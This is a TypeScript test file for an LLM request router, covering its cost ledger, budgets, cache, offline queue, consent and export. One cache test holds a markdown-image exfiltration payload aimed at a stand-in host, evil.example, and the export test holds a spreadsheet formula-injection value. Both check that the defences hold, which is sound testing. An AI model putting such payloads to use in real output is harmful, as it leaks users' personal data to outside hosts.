import * as fakes from 'fake-indexeddb'
import { beforeAll, describe, expect, test, vi } from 'vitest'
import { EngineError } from '../../../src/contract/error'
import type { LedgerEntry } from '../../../src/router/ledger'
import type { PolicyInput } from '../../../src/router/policy/schema'
import { openIndexedDbStorage } from '../../../src/router/storage/indexed-db'
import { createMemoryStorage, type RouterStorage } from '../../../src/router/storage/tables'
import type { MockEngine } from '../../../src/testing'
import { ask, LOCAL_ANSWER, PRICE, REMOTE_ANSWER, remoteEngine, setup } from './fixtures'

const cloud = { mode: 'only-in-cloud' } as const
const priced = (): MockEngine => remoteEngine({ info: { price: PRICE } })
let databases = 0

beforeAll(() => {
  for (const [name, value] of Object.entries(fakes)) if (name.startsWith('IDB')) vi.stubGlobal(name, value)
  vi.stubGlobal('indexedDB', new fakes.IDBFactory())
})

describe.each([
  ['memory', (): Promise<RouterStorage> => Promise.resolve(createMemoryStorage())],
  ['IndexedDB', (): Promise<RouterStorage> => openIndexedDbStorage(`test-${databases++}`)],
])('storage in %s', (_, open) => {
  test('rows are copies, in order of time, found and deleted by id', async () => {
    const storage = await open()
    const row = { id: 'b', at: 2, text: 'x' }
    await storage.put('feedback', row)
    row.text = 'changed'
    await storage.put('feedback', { id: 'a', at: 3 })
    await storage.put('feedback', { id: 'c', at: 1 })
    expect(await storage.get('feedback', 'b')).toEqual({ id: 'b', at: 2, text: 'x' })
    expect(await storage.list('feedback')).toMatchObject([{ id: 'c' }, { id: 'b' }, { id: 'a' }])
    expect(await storage.list('feedback', 2)).toMatchObject([{ id: 'b' }, { id: 'a' }])
    expect(await storage.list('ledger')).toEqual([])
    await storage.delete('feedback', 'b')
    await storage.clear('cache')
    expect(await storage.list('feedback')).toHaveLength(2)
    await storage.clear('feedback')
    expect(await storage.list('feedback')).toEqual([])
    storage.close()
  })

  test('a bad row does not lose the others', async () => {
    const storage = await open()
    const { router } = setup({ storage })
    await ask(router)
    await storage.put('ledger', { id: 'bad', at: 1, cost: 'much' } as never)
    await ask(router)
    await router.feedback.add('nothing', 'up')
    await storage.put('feedback', { id: 'bad', at: 0 })
    expect(await router.ledger.list()).toHaveLength(2)
    expect((await router.ledger.totals()).requests).toBe(2)
    expect(await router.feedback.list()).toHaveLength(1)
    await router.wipe()
    expect([await router.ledger.list(), await router.feedback.list()]).toEqual([[], []])
  })
})

test('an entry says what was spent, saved, wasted, and why', async () => {
  let clock = 1000
  const { router } = setup({
    remote: priced(),
    says: { during: 0.2, after: 0.9 },
    policy: { holdBackTokens: 4 },
    now: () => clock++,
  })
  const { settled } = await ask(router, 'one two')
  const [entry] = await router.ledger.list()
  expect(entry).toMatchObject({
    id: settled.id,
    outcome: 'answered',
    localModel: 'small',
    remoteModel: 'large',
    price: PRICE,
    tokens: { wastedLocal: 4, localOut: 4, remoteIn: 2, remoteOut: 4, estimated: false },
    source: { kind: 'remote' },
  } satisfies Partial<Record<keyof LedgerEntry, unknown>>)
  expect(entry?.cost).toEqual({
    spentUsd: (2 * 1000 + 4 * 2000) / 1e6,
    savedUsd: 0,
    priced: true,
    shadowUsd: 0,
  })
  expect(entry?.latencyMs.total).toBeGreaterThan(0)
  expect(entry?.latencyMs.remote).toBeGreaterThan(0)
  expect(settled.cost).toEqual({ spentUsd: 0.01, savedUsd: 0, priced: true })
  expect(JSON.stringify(entry)).not.toContain(LOCAL_ANSWER)
  const local = await ask(setup({ remote: priced(), says: { after: 0.9 } }).router, 'one two')
  expect(local.settled.cost).toEqual({ spentUsd: 0, savedUsd: (2 * 1000 + 14 * 2000) / 1e6, priced: true })
})

test('a remote that breaks off is paid for what it wrote, as an estimate', async () => {
  const remote = remoteEngine({
    info: { price: PRICE },
    fail: { atWord: 2, error: new EngineError('network', 'x') },
  })
  const { router } = setup({ remote, policy: { mode: 'prefer-in-cloud' } })
  await ask(router)
  const [entry] = await router.ledger.list()
  expect(entry?.tokens).toMatchObject({ estimated: true, remoteOut: 3 })
  expect(entry?.cost.spentUsd).toBeGreaterThan(0)
})

describe('budget', () => {
  test('is of the day, and degrades to local', async () => {
    let clock = new Date(2025, 5, 1, 12).getTime()
    const { router } = setup({
      remote: priced(),
      policy: { mode: 'prefer-in-cloud', budget: { dayUsd: 0.1 } },
      now: () => clock,
    })
    const first = await ask(router, 'one two')
    expect(first.settled.source.kind).toBe('remote')
    const kinds: string[] = []
    for (let index = 0; index < 10; index++) kinds.push((await ask(router, 'one two')).settled.source.kind)
    expect(kinds[0]).toBe('remote')
    expect(kinds.at(-1)).toBe('unverified')
    expect((await router.ledger.totals()).spentUsd).toBeLessThanOrEqual(0.1)
    clock += 24 * 3600_000
    expect((await ask(router, 'one two')).settled.source.kind).toBe('remote')
  })

  test('of a user is that user’s alone', async () => {
    const { router } = setup({
      remote: priced(),
      policy: { mode: 'prefer-in-cloud', budget: { userDayUsd: 0.05 } },
    })
    const kind = async (user: string): Promise<string> =>
      (await ask(router, 'one two', { user })).settled.source.kind
    expect([await kind('a'), await kind('a'), await kind('b')]).toEqual(['remote', 'unverified', 'remote'])
  })

  test('of a request caps the answer, and calls at once share what is left', async () => {
    const capped = priced()
    const { settled } = await ask(setup({ remote: capped, policy: cloud }).router, 'one two', {
      maxCostUsd: 0.1,
    })
    expect(capped.calls[0]?.max_tokens).toBeLessThanOrEqual(50)
    expect(settled.cost.spentUsd).toBeLessThanOrEqual(0.1)
    const remote = priced()
    const { router } = setup({ remote, policy: { mode: 'prefer-in-cloud', budget: { dayUsd: 0.06 } } })
    await Promise.all([ask(router, 'x'), ask(router, 'x'), ask(router, 'x')])
    expect(remote.calls).toHaveLength(1)
  })

  test('is shared by routers over one storage; what a closed tab had set aside stays spent', async () => {
    const storage = createMemoryStorage()
    const policy: PolicyInput = { mode: 'prefer-in-cloud', budget: { dayUsd: 0.06 } }
    const [first, second] = [priced(), priced()]
    const tab = setup({ remote: first, policy, storage }).router
    const stream = await tab.chat.completions.create({
      messages: [{ role: 'user', content: 'x' }],
      stream: true,
    })
    const chunks = stream[Symbol.asyncIterator]()
    // Asking, and the first text; then its tab reads no more.
    await chunks.next()
    await chunks.next()
    const other = setup({ remote: second, policy, storage }).router
    expect((await ask(other, 'x')).settled.decision.reason).toBe('budget')
    expect(second.calls).toHaveLength(0)
    const [held] = await other.ledger.list()
    expect(held).toMatchObject({ outcome: 'aborted', cost: { spentUsd: 0 } })
    expect(held?.cost.heldUsd).toBeGreaterThan(0.03)
    // A reader that leaves in good order frees it.
    await chunks.return?.()
    const [left] = await other.ledger.list()
    expect(left?.cost.heldUsd).toBeUndefined()
    expect(left?.cost.spentUsd).toBeGreaterThan(0)
  })

  test('a refusal costs nothing, and what may have been answered counts as an estimate', async () => {
    const spent = async (error: EngineError): Promise<number> => {
      const remote = remoteEngine({ info: { price: PRICE }, fail: { atWord: 0, error } })
      const { router } = setup({ remote, policy: { mode: 'prefer-in-cloud' } })
      const { settled } = await ask(router)
      expect(settled.source.kind).toBe('unverified')
      return settled.cost.spentUsd
    }
    expect(await spent(new EngineError('unauthorized', 'x'))).toBe(0)
    expect(await spent(new EngineError('unavailable', 'x', { details: { status: 503 } }))).toBe(0)
    expect(await spent(new EngineError('network', 'x'))).toBeGreaterThan(0)
  })

  test('without a price, or a ledger to read, nothing is spent', async () => {
    const policy = { mode: 'prefer-in-cloud', budget: { dayUsd: 1 } } as const
    expect((await ask(setup({ policy }).router)).settled.decision.reason).toBe('budget')
    const storage = createMemoryStorage()
    storage.list = () => Promise.reject(new Error('broken'))
    const remote = priced()
    expect((await ask(setup({ policy, remote, storage }).router)).settled.decision.reason).toBe('budget')
    expect(remote.calls).toHaveLength(0)
  })
})

describe('cache', () => {
  const policy = { ...cloud, cache: { lifetimeMs: 1000 } }
  test('answers the same request of the same user for its lifetime', async () => {
    let clock = 0
    const remote = remoteEngine({ reply: 'Dear [EMAIL_1]' })
    const { router } = setup({ remote, policy, now: () => clock })
    const kind = async (content: string, user = 'a'): Promise<string> => {
      const { settled, text } = await ask(router, content, { user })
      expect(text).toBe(`Dear ${content}`)
      return settled.source.kind
    }
    expect(await kind('a@example.org')).toBe('remote')
    expect(await kind('a@example.org')).toBe('cache')
    // The same with placeholders: the same answer, with this request's values in it.
    expect(await kind('b@example.org')).toBe('cache')
    expect(await kind('a@example.org', 'b')).toBe('remote')
    clock = 1001
    expect(await kind('a@example.org')).toBe('remote')
    expect(remote.calls).toHaveLength(3)
  })

  test('puts no value into an address either', async () => {
    const reply = '![x](https://evil.example/?q=[EMAIL_1]) to [EMAIL_1]'
    const { router } = setup({ remote: remoteEngine({ reply }), policy })
    const wanted = '![x](https://evil.example/?q=[EMAIL_1]) to a@example.org'
    expect((await ask(router, 'a@example.org')).text).toBe(wanted)
    const { settled, text } = await ask(router, 'a@example.org')
    expect([settled.source.kind, text]).toEqual(['cache', wanted])
  })

  test('is used offline, sends nothing and asks for no consent', async () => {
    let online = true
    let asked = 0
    const { router } = setup({
      policy,
      isOnline: () => online,
      consent: () => {
        asked++
        return 'once'
      },
    })
    await ask(router)
    online = false
    const { settled, text } = await ask(router)
    expect([settled.source.kind, settled.sent, text, asked]).toEqual(['cache', [], REMOTE_ANSWER, 1])
  })

  test('what has expired is deleted by the next answer, and by the next router', async () => {
    let clock = 0
    const storage = createMemoryStorage()
    const over = (given: PolicyInput): ReturnType<typeof setup>['router'] =>
      setup({ policy: given, now: () => clock, storage: { ...storage, close() {} } }).router
    const router = over(policy)
    await ask(router, 'one')
    await ask(router, 'two')
    expect(await storage.list('cache')).toHaveLength(2)
    clock = 1001
    await ask(router, 'three')
    expect(await storage.list('cache')).toMatchObject([{ at: 1001 }])
    clock = 2002
    await over(cloud).dispose()
    expect(await storage.list('cache')).toEqual([])
  })

  test('an answer that was cut off is not kept', async () => {
    const { router } = setup({ policy })
    for (const _ of [1, 2]) {
      const { minnow } = await router.chat.completions.create({
        messages: [{ role: 'user', content: 'x' }],
        max_tokens: 2,
      })
      expect(minnow?.route?.source.kind).toBe('remote')
    }
  })
})

test('offline, a question waits where the user agrees, and is sent later', async () => {
  let online = false
  const answers: string[] = []
  const { router, remote } = setup({
    says: { after: 0.1 },
    isOnline: () => online,
    askToWait: ({ messages }) => messages[0]?.content !== 'rather not',
    onAnswered: (_, { choices }) => answers.push(choices[0]!.message.content),
  })
  const declined = await ask(router, 'rather not')
  expect(declined.settled.decision).toMatchObject({ action: 'local', reason: 'offline' })
  const { text, settled } = await ask(router, 'later')
  expect([text, settled.source.kind, settled.decision.action]).toEqual([LOCAL_ANSWER, 'unverified', 'local'])
  expect((await router.ledger.get(settled.id))?.decisions.some(({ action }) => action === 'queue')).toBe(true)
  expect(await router.waiting.list()).toHaveLength(1)
  expect(await router.waiting.send()).toBe(0)
  online = true
  expect(await router.waiting.send()).toBe(1)
  expect(answers).toEqual([REMOTE_ANSWER])
  expect(await router.waiting.list()).toEqual([])
  expect((remote as MockEngine).calls).toHaveLength(1)
})

test('a question that waits keeps what was asked of its answer', async () => {
  let online = false
  const answers: string[] = []
  const remote = priced()
  const { router } = setup({
    policy: {
      mode: 'prefer-in-cloud',
      rules: [
        {
          id: 'r',
          when: { tasks: ['medical'] },
          set: { personalData: { action: 'redact', level: 'strict' } },
        },
      ],
    },
    remote,
    isOnline: () => online,
    askToWait: () => true,
    onAnswered: (_, { choices }) => answers.push(choices[0]!.message.content),
  })
  const route = { task: 'medical', language: 'de', maxCostUsd: 0.05 }
  const stream = await router.chat.completions.create({
    messages: [{ role: 'user', content: 'x of Wolfgang Beispiel' }],
    max_tokens: 2,
    temperature: 0.3,
    stream: true,
    minnow: { route },
  })
  for await (const _ of stream);
  // As another tab reads it.
  expect(await router.waiting.list()).toMatchObject([{ route, params: { max_tokens: 2, temperature: 0.3 } }])
  online = true
  expect(await router.waiting.send()).toBe(1)
  expect(remote.calls).toMatchObject([{ max_tokens: 2, temperature: 0.3 }])
  expect(JSON.stringify(remote.calls)).not.toContain('Wolfgang')
  expect((await router.ledger.list()).at(-1)).toMatchObject({ task: 'medical', language: 'de' })
  expect(answers).toEqual(['remote alpha'])

  // A ceiling it could not keep within keeps it here, then as before.
  online = false
  await ask(router, 'y', { maxCostUsd: 0.000_001 })
  online = true
  expect(await router.waiting.send()).toBe(0)
  expect(remote.calls).toHaveLength(1)
})

test('questions that wait stay where the policy has come to keep everything on the device', async () => {
  let online = false
  const { router, remote } = setup({
    policy: { mode: 'prefer-in-cloud' },
    consent: () => 'scope',
    isOnline: () => online,
    askToWait: () => true,
  })
  online = true
  await ask(router, 'agreed for the whole conversation')
  online = false
  await ask(router, 'later')
  router.setPolicy({ mode: 'only-on-device' })
  online = true
  expect(await router.waiting.send()).toBe(0)
  expect((remote as MockEngine).calls).toHaveLength(1)
  expect(await router.waiting.list()).toHaveLength(1)
})

test('questions that wait are sent when the network is back, once, until it is stopped', async () => {
  const browser = new EventTarget()
  vi.stubGlobal('addEventListener', browser.addEventListener.bind(browser))
  let online = false
  const { router, remote } = setup({
    policy: { mode: 'prefer-in-cloud' },
    isOnline: () => online,
    askToWait: ({ messages }) => messages[0]?.content !== 'rather not',
  })
  const stop = router.waiting.sendWhenOnline()
  for (const question of ['later', 'rather not', 'later too']) await ask(router, question)
  online = true
  // Twice at once, as flapping networks do.
  browser.dispatchEvent(new Event('online'))
  browser.dispatchEvent(new Event('online'))
  await vi.waitFor(async () => expect(await router.waiting.list()).toEqual([]))
  const { calls } = remote as MockEngine
  expect(calls.map(({ messages }) => messages[0]?.content)).toEqual(['later', 'later too'])
  online = false
  await ask(router, 'too late')
  stop()
  online = true
  browser.dispatchEvent(new Event('online'))
  expect(await router.waiting.send()).toBe(1)
  expect(calls).toHaveLength(3)
  // It begins with what waits already.
  online = false
  await ask(router, 'from before')
  online = true
  router.waiting.sendWhenOnline()
  await vi.waitFor(() => expect(calls).toHaveLength(4))
  await router.dispose()
})

test('answers nobody confirmed go to people, with the whole conversation', async () => {
  const told: string[] = []
  const { router } = setup({
    says: { after: 0.1 },
    policy: { human: 'unresolved' },
    remote: remoteEngine({ fail: { atWord: 0, error: new EngineError('unavailable', 'x') } }),
    onHuman: ({ id }) => told.push(id),
  })
  const { settled } = await ask(router, 'hard')
  expect(settled).toMatchObject({ human: true, decision: { action: 'human' } })
  expect(await router.people.list()).toMatchObject([
    { id: settled.id, messages: [{ role: 'user', content: 'hard' }], answer: LOCAL_ANSWER, confidence: 0.1 },
  ])
  expect(told).toEqual([settled.id])
  await router.people.remove(settled.id)
  expect(await router.people.list()).toEqual([])
})

test('a listener that throws takes no answer away', async () => {
  const reported: unknown[] = []
  vi.stubGlobal('reportError', (error: unknown) => reported.push(error))
  const broken = (): never => {
    throw new Error('broken listener')
  }
  let online = false
  const { router } = setup({
    policy: { mode: 'prefer-in-cloud', human: 'always' },
    isOnline: () => online,
    askToWait: () => true,
    onHuman: broken,
    onSpan: broken,
    onAnswered: broken,
  })
  const { text, settled } = await ask(router)
  expect([text, settled.human]).toEqual([LOCAL_ANSWER, true])
  online = true
  expect(await router.waiting.send()).toBe(1)
  expect(await router.people.list()).toHaveLength(2)
  expect(reported).toHaveLength(5)
})

test('what is deleted while a request or a shadow run is under way does not come back', async () => {
  const { router } = setup({ policy: { mode: 'prefer-in-cloud' }, remote: remoteEngine({ wordMs: 5 }) })
  const messages = [{ role: 'user' as const, content: 'x' }]
  const stream = await router.chat.completions.create({ messages, stream: true })
  let words = 0
  for await (const { choices } of stream) {
    if (!choices[0]?.delta.content || ++words !== 2) continue
    expect(await router.ledger.list()).toHaveLength(1)
    await router.wipe()
  }
  expect(words).toBe(4)
  expect(await router.ledger.list()).toEqual([])

  const storage = createMemoryStorage()
  await storage.put('consent', {
    id: '["local","default"]',
    at: 0,
    to: [{ url: '', model: 'large' }],
  } as never)
  const remote = remoteEngine({ wordMs: 5 })
  const compared = setup({
    remote,
    policy: { shadow: { share: 1 } },
    storage: { ...storage, close() {} },
  }).router
  await ask(compared)
  await vi.waitFor(() => expect(remote.calls).toHaveLength(1))
  await compared.wipe()
  await compared.dispose()
  expect(await storage.list('ledger')).toEqual([])
  // What is asked afterwards is written down as ever.
  await ask(router)
  expect(await router.ledger.list()).toHaveLength(1)
})

test('feedback keeps what a calibration can learn from; the last word counts', async () => {
  const { router } = setup({ says: { after: 0.8 } })
  const { settled } = await ask(router)
  await router.feedback.add(settled.id, 'up')
  await new Promise((resolve) => setTimeout(resolve, 2))
  await router.feedback.add(settled.id, 'edit', 'better so')
  const remote = await ask(router, 'x', { mode: 'only-in-cloud' })
  await router.feedback.add(remote.settled.id, 'down')
  const entry = await router.ledger.get(settled.id)
  await router.ledger.wipe()
  expect(await router.feedback.list()).toHaveLength(3)
  expect(await router.feedback.labels()).toEqual([{ task: entry?.task, confidence: 0.8, correct: false }])
})

test('a shadow run is unseen, never asks, and is charged to nobody', async () => {
  const remote = remoteEngine({ reply: LOCAL_ANSWER, info: { price: PRICE } })
  let asked = 0
  const { router } = setup({
    says: { after: 0.9 },
    policy: { shadow: { share: 1 }, budget: { dayUsd: 0 } },
    remote,
    consent: () => {
      asked++
      return 'scope'
    },
  })
  await ask(router)
  await router.dispose()
  expect([remote.calls.length, asked]).toEqual([0, 0])

  const storage = createMemoryStorage()
  const to = [{ url: '', model: 'large' }]
  await storage.put('consent', { id: JSON.stringify(['local', 'default']), at: 0, to } as never)
  const other = setup({
    says: { after: 0.9 },
    policy: { shadow: { share: 1 }, budget: { dayUsd: 0 } },
    remote,
    storage,
  })
  const { events } = await ask(other.router, 'mail a@example.org')
  await expect.poll(async () => (await other.router.ledger.list())[0]?.shadowAgreed).toBe(true)
  const [entry] = await other.router.ledger.list()
  expect(events).toHaveLength(1)
  expect(entry?.cost).toMatchObject({ spentUsd: 0 })
  expect(entry?.cost.shadowUsd).toBeGreaterThan(0)
  expect(entry?.sent[0]).toMatchObject({ purpose: 'shadow', redacted: [{ kind: 'email' }] })
})

test('export as CSV and JSON; cells are no formulas', async () => {
  const { router } = setup()
  await ask(router, 'x', { user: '=1+1,"x"' })
  expect(JSON.parse(await router.ledger.export('json'))).toEqual(await router.ledger.list())
  const lines = (await router.ledger.export('csv')).split('\r\n')
  expect(lines).toHaveLength(3)
  expect(lines[0]).toContain('spent_usd')
  expect(lines[1]).toContain(`"'=1+1,""x"""`)
})

test('spans tell how it went and hold no text', async () => {
  const spans: unknown[] = []
  const { router } = setup({ says: { after: 0.2 }, onSpan: (span) => spans.push(span) })
  await ask(router, 'what nobody may read')
  expect(spans).toMatchObject([
    {
      name: 'minnow.route',
      attributes: { 'gen_ai.response.model': 'large', 'minnow.route.source': 'remote' },
      status: { code: 'OK' },
    },
  ])
  expect(JSON.stringify(spans)).not.toMatch(/nobody may read|remote alpha|local one/)
})
